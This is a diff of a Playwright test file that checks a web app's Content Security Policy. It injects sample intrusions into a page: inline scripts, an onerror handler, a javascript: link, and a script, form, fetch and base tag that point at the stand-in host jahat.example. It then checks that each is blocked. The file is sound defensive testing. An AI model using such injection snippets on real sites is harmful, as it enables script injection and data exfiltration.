@@ -3,67 +3,65 @@ import { signIn } from '../support/e2e-admin.ts';
 
 const REFUSED = /Content Security Policy/;
 
-test.describe(() => {
-  test.use({ expectedErrors: REFUSED });
+test.use({ expectedErrors: REFUSED });
 
-  const INTRUDERS: [string, string][] = [
-    [
-      'an inline script',
-      `const script = document.createElement('script');
+const INTRUDERS: [string, string][] = [
+  [
+    'an inline script',
+    `const script = document.createElement('script');
          script.textContent = 'ran = 1';
          document.body.append(script)`
-    ],
-    [
-      'a script of another host',
-      `const script = document.createElement('script');
+  ],
+  [
+    'a script of another host',
+    `const script = document.createElement('script');
          script.src = 'https://jahat.example/a.js';
          document.body.append(script)`
-    ],
-    [
-      'a handler in markup',
-      `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran = 1">')`
-    ],
-    [
-      'a javascript: link',
-      `const link = document.createElement('a');
+  ],
+  [
+    'a handler in markup',
+    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran = 1">')`
+  ],
+  [
+    'a javascript: link',
+    `const link = document.createElement('a');
          link.href = 'javascript:ran = 1';
          document.body.append(link);
          link.click()`
-    ],
-    [
-      'a frame',
-      `const frame = document.createElement('iframe');
+  ],
+  [
+    'a frame',
+    `const frame = document.createElement('iframe');
          frame.src = '/';
          document.body.append(frame)`
-    ],
-    [
-      'a form to another host',
-      `const form = document.createElement('form');
+  ],
+  [
+    'a form to another host',
+    `const form = document.createElement('form');
          form.action = 'https://jahat.example/';
          document.body.append(form);
          form.submit()`
-    ],
-    ['a request to another host', `fetch('https://jahat.example/').catch(() => undefined)`],
-    [
-      'a base for every link',
-      `const base = document.createElement('base');
+  ],
+  ['a request to another host', `fetch('https://jahat.example/').catch(() => undefined)`],
+  [
+    'a base for every link',
+    `const base = document.createElement('base');
          base.href = 'https://jahat.example/';
          document.head.append(base)`
-    ]
-  ];
-  for (const [what, intrusion] of INTRUDERS)
-    test(`§7 Headers: ${what} in a page has no effect and is reported`, async ({ page }) => {
-      await visit(page, '/product/Jahe');
-      const warning = page.waitForEvent(
-        'console',
-        (message) => message.type() === 'error' && REFUSED.test(message.text())
-      );
-      await page.evaluate(intrusion);
-      await warning;
-      expect(await page.evaluate('typeof ran')).toBe('undefined');
-      expect(await page.evaluate('location.pathname')).toBe('/product/Jahe');
-    });
-});
+  ]
+];
+for (const [what, intrusion] of INTRUDERS)
+  test(`§7 Headers: ${what} in a page has no effect and is reported`, async ({ page }) => {
+    await visit(page, '/product/Jahe');
+    const warning = page.waitForEvent(
+      'console',
+      (message) => message.type() === 'error' && REFUSED.test(message.text())
+    );
+    await page.evaluate(intrusion);
+    await warning;
+    expect(await page.evaluate('typeof ran')).toBe('undefined');
+    expect(await page.evaluate('location.pathname')).toBe('/product/Jahe');
+  });
 
 test('§7 Headers: the policy of pages names every script', async ({ request }) => {
   for (const path of ['/', '/id/product', '/product/Jahe', '/dashboard/users', '/nothing']) {
@@ -75,9 +73,7 @@ test('§7 Headers: the policy of pages names every script', async ({ request }) 
   }
 });
 
-test('§7 Headers: the dashboard, its charts and its forms comply with the policy', async ({
-  page
-}) => {
+test('§7 Headers: dashboard, charts and forms comply with the policy', async ({ page }) => {
   await signIn(page, '/dashboard');
   await expect(page.locator('.apexcharts-series').first()).toBeVisible();
   await page.goto('/dashboard/products');
